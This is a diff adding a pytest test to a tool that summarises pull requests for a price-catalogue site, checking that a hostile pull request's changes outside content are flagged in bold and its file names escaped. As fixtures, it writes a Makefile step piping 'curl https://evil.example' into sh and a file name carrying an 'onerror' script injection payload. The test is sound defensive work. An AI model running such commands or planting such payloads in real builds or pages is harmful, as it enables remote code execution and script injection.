@@ -107,3 +107,35 @@ def test_summary_shows_pull_request_text_only_as_text(repo: Path) -> None:
     # A second product with the same name is new, not a price change of the first.
     assert "produk baru `Cabai rawit (2)`: Rp9.000" in result.stdout
     assert "harga `Cabai rawit`" not in result.stdout
+
+
+def test_files_outside_content_come_first_in_bold(repo: Path) -> None:
+    """Reviewers read the summary; a pull request that also changes the generator, the
+    workflows or the Makefile must say so at the top, however little content it changes."""
+    import markdown
+
+    (repo / "Makefile").write_text("site:\n\ttrue\n", "utf-8")
+    git("add", "Makefile", cwd=repo)
+    git("commit", "-qm", "Makefile", cwd=repo)
+    (repo / "Makefile").write_text("site:\n\tcurl https://evil.example | sh\n", "utf-8")
+    (repo / ".cache" / "photos").mkdir(parents=True)
+    (repo / ".cache" / "photos" / "meta.json").write_text("{}", "utf-8")
+    git("add", "-f", ".cache", cwd=repo)  # force-added, as in a hostile pull request
+    (repo / "generator").mkdir()
+    (repo / "generator" / "<img src=x onerror=alert(1)>.py").write_text("", "utf-8")
+    edit(repo / "content" / "vendors" / "amplang-uji.yml", "price: 35000", "price: 38000")
+    for lang, first, advice in (
+        ("id", "berkas di luar `content/`", "periksa sebagai kode"),
+        ("en", "files outside `content/`", "review them as code"),
+    ):
+        result = run("--lang", lang, "diff", "HEAD", cwd=repo)
+        assert result.returncode == 0, result.stderr
+        head = result.stdout.split("\n### ")[0]  # before the first catalogue section
+        assert first in head and advice in head
+        html = markdown.markdown(result.stdout)
+        for path in (".cache/photos/meta.json", "Makefile"):
+            assert f"<strong><code>{path}</code></strong>" in html
+        assert "<strong><code>generator/&lt;img src=x onerror=alert(1)&gt;.py</code>" in html
+        assert "<img" not in html
+        assert "amplang-uji" not in head  # content files are not listed as code
+        assert "Rp35.000 → Rp38.000" in result.stdout  # and the catalogue summary follows
